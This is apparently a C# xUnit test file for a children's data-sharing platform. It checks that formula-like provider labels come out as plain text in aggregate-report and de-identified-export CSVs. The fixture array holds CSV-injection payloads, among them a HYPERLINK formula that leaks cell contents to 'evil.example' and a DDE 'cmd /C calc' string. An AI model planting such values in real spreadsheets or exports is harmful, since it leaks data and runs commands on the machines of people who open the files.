using System.Text;
using System.Text.Json;
using ChildShare.Core.Agreements;
using ChildShare.Core.Callers;
using ChildShare.Core.Ingestion;
using ChildShare.Core.Organizations;
using ChildShare.Core.Sharing.Deidentified;
using ChildShare.Functions.Exports;
using ChildShare.Functions.Reports;
using ChildShare.Tests.Activity;
using ChildShare.Tests.Agreements;
using ChildShare.Tests.Sharing.Aggregate;
using ChildShare.Tests.Sharing.Deidentified;
using ChildShare.Tests.Support;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Mvc;
using Microsoft.Extensions.DependencyInjection;

namespace ChildShare.Tests.Csv;

/// <summary>
/// A provider's roster whose program and service-type labels are spreadsheet formulas, ingested
/// through the real path; the aggregate report's CSV and the de-identified export's CSV (service
/// rows) must carry every label as text, and the JSON the label as the provider sent it.
/// </summary>
public sealed class CsvOutputsEndToEndTests : AppTests
{
    /// <summary>Labels a roster can carry through ingestion (which trims cells): formula prefixes, delimiters, quotes, a line break, non-ASCII.</summary>
    private static readonly string[] Labels =
    [
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1",
        "-1",
        "\uFF1D1+1",
        "\u200B=1+1",
        "Tutoring, \"advanced\"",
        "two\nlines",
        "naïve café 中文 🙂",
    ];

    /// <summary>The labels as they land: ingestion turns a line break inside a cell into a space (RowNormalizer), so the reports never see one.</summary>
    private static readonly string[] Landed = Labels.Select(l => l.Replace('\n', ' ')).ToArray();

    private string _countyKey = "";
    private string _researchKey = "";

    protected override async Task StartAsync()
    {
        var registry = Services.GetRequiredService<ProviderRegistry>();
        await registry.RegisterAsync("district", "District", "Other");
        await registry.SaveProfileAsync("district", ReportHarness.Profile);
        var roster = new StringBuilder("Id,First,Last,DOB,Sex,Race,Zip,Grade,Program,Type,Start,End,Address\n");
        for (var i = 0; i < 36; i++)
        {
            var (first, last, dob) = ReportHarness.Child(i);
            var label = Labels[i % Labels.Length];
            roster.Append(string.Join(',', new[] { $"D{i:D3}", first, last, dob, "F", "5", "12345", "3", label, label, "2026-09-01", "2026-09-30", "" }.Select(Quote))).Append('\n');
        }

        var blob = await Storage.UploadAsync("district/september.csv", Encoding.UTF8.GetBytes(roster.ToString()));
        var manifest = await Services.GetRequiredService<IngestionService>().IngestAsync(blob);
        Assert.Equal((UploadStatus.Completed, 36), (manifest.Status, manifest.RowsAccepted));

        var agreements = Services.GetRequiredService<AgreementStore>();
        await agreements.CreateAsync(AgreementTestData.Aggregate("dsa-county", "county-health", "district") with { MinimumCellSize = 2 }, "test");
        await agreements.CreateAsync(AgreementTestData.Aggregate("dsa-research", "uni-research", "district") with
        {
            Modes = [SharingMode.DeIdentified], DeIdentification = new DeidentificationTerms { K = 2, ServiceRows = true },
        }, "test");
        var keys = Services.GetRequiredService<ApiKeyStore>();
        _countyKey = (await keys.IssueAsync("county-health", CallerRoles.Reader, "power-bi", TimeSpan.FromDays(90), "test")).Key;
        _researchKey = (await keys.IssueAsync("uni-research", CallerRoles.Reader, "r", TimeSpan.FromDays(90), "test")).Key;
    }

    private static string Quote(string value) =>
        value.IndexOfAny([',', '"', '\n']) >= 0 ? "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" : value;

    private async Task<string> GetAsync(Func<HttpRequest, CancellationToken, Task<IActionResult>> function, string path, string query)
    {
        var context = new DefaultHttpContext();
        context.Request.Method = "GET";
        context.Request.Scheme = "https";
        context.Request.Host = new HostString("childshare.example.org");
        context.Request.Path = path;
        context.Request.QueryString = new QueryString(query);
        var result = Assert.IsType<ContentResult>(await TestHttp.RunAsync(Services, context.Request, r => function(r, CancellationToken.None)));
        Assert.Equal(200, result.StatusCode);
        return result.Content!;
    }

    [Fact]
    public async Task ReportCsv_ProviderLabelsAreFormulas_EveryFieldIsText()
    {
        var report = ActivatorUtilities.CreateInstance<GetAggregateReport>(Services);
        var query = $"?from=2026-09-01&to=2026-09-30&groupBy=program,serviceType&api-key={_countyKey}";
        var json = await GetAsync(report.RunAsync, "/api/reports/aggregate", query);
        var csv = await GetAsync(report.RunAsync, "/api/reports/aggregate", query + "&format=csv");

        var jsonRows = JsonDocument.Parse(json).RootElement.GetProperty("value").EnumerateArray()
            .Select(r => ReportRowColumns.Select(c => r.GetProperty(c) is { ValueKind: JsonValueKind.String } s ? s.GetString()! : r.GetProperty(c).ToString().ToLowerInvariant()).ToArray())
            .ToList();
        var (columns, csvRows) = ExportChecker.ParseCsv(csv);

        Assert.Equal(ReportRowColumns, columns);
        Assert.Superset(Landed.ToHashSet(), jsonRows.Select(r => r[4]).Where(p => p != "(all)").ToHashSet());
        Assert.Equal(Landed.Length, jsonRows.Select(r => r[4]).Distinct().Count(p => p != "(all)"));
        Assert.Equal(jsonRows.Select(r => r.Select(Spreadsheet.Expected)), csvRows);
        Assert.DoesNotContain(csvRows.SelectMany(r => r), Spreadsheet.RunsAsFormula);
    }

    [Fact]
    public async Task ExportCsv_ProviderLabelsAreFormulas_EveryFieldIsText()
    {
        var export = ActivatorUtilities.CreateInstance<GetDeidentifiedExport>(Services);
        var query = $"?agreement=dsa-research&from=2026-09-01&to=2026-09-30&rows=services&api-key={_researchKey}";
        var json = ExportHarness.ParseJson(await GetAsync(export.RunAsync, "/api/exports/deidentified", query));
        var (columns, csvRows) = ExportChecker.ParseCsv(await GetAsync(export.RunAsync, "/api/exports/deidentified", query + "&format=csv"));

        Assert.Equal(json.Columns, columns);
        Assert.Equal(Landed.Order(StringComparer.Ordinal), json.Rows.Select(r => r[columns.IndexOf("program")]).Distinct().Order(StringComparer.Ordinal));
        Assert.Equal(json.Rows.Select(r => r.Select(Spreadsheet.Expected)), csvRows);
        Assert.DoesNotContain(csvRows.SelectMany(r => r), Spreadsheet.RunsAsFormula);
    }

    private static readonly string[] ReportRowColumns =
        ["periodStart", "periodEnd", "rowType", "provider", "program", "serviceType", "sex", "race", "ethnicity", "ageBand", "grade", "zip3", "children", "suppressed", "suppressionReason"];
}
